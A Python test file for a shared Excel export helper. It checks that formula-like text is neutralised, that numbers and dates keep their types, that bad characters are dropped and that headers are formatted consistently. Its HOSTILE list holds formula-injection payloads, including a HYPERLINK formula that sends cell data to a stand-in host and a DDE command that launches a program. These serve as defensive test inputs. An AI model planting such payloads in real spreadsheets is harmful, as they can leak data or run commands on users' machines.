"""The one Excel writer every export uses: user text stays text, numbers and dates keep their type,
characters an .xlsx cannot hold are dropped, and every sheet has the same header look."""

import datetime
import io
from decimal import Decimal

from openpyxl import load_workbook

from branches import excel

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "＝1+1", "#N/A", "=", "-", "普通文字"]


def saved(headers, rows):
    book = excel.workbook()
    sheet = excel.Sheet(book, "表", headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))["表"]


def test_text_that_looks_like_a_formula_is_written_as_quoted_text():
    sheet = saved(["内容"], [[value] for value in HOSTILE])
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert all(c.data_type == "s" for c in cells)
    quoted = {c.value for c in cells if c.quotePrefix}
    assert quoted == {v.replace("\r", "\n") for v in HOSTILE if v[0] in "=+-@\t\r＝"}


def test_numbers_and_dates_keep_their_type():
    day, moment = datetime.date(2024, 6, 14), datetime.datetime(2024, 6, 14, 9, 30)
    sheet = saved(["数", "小数", "日期", "时间"], [[7, Decimal("8.5"), day, moment], [-3, 1.25, None, None]])
    first, second = list(sheet.iter_rows(min_row=2, values_only=True))
    assert first == (7, 8.5, datetime.datetime(2024, 6, 14), moment)
    assert second[:2] == (-3, 1.25)
    assert sheet["C2"].is_date and sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["B3"].data_type == "n" and not sheet["B3"].quotePrefix


def test_characters_an_xlsx_cannot_hold_are_dropped_and_the_rest_kept():
    sheet = saved(["评语"], [["响\x07铃\x1b[31m红\x00字\r\n第二行\t制表"]])
    assert sheet["A2"].value == "响铃[31m红字\n第二行\t制表"


def test_every_sheet_has_a_bold_frozen_header_and_widths_for_chinese():
    sheet = saved(["项目编号", "培育单位名称很长很长很长"], [[1, "某党支部"]])
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b and sheet["B1"].font.b
    assert sheet.column_dimensions["B"].width >= excel.display_width("培育单位名称很长很长很长")
    assert not sheet["A2"].font.b


def test_no_code_writes_a_workbook_except_through_the_helper():
    """Tomorrow's export cannot forget the formula guard: only branches/excel.py may build a workbook."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bWorkbook\s*\(|WriteOnlyCell|from openpyxl import[^\n]*\bWorkbook\b|csv\.writer")
    offenders = [str(path.relative_to(root)) for app in ("branches", "cultivation", "evaluations", "config")
                 for path in (root / app).rglob("*.py")
                 if path.name != "excel.py" and writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
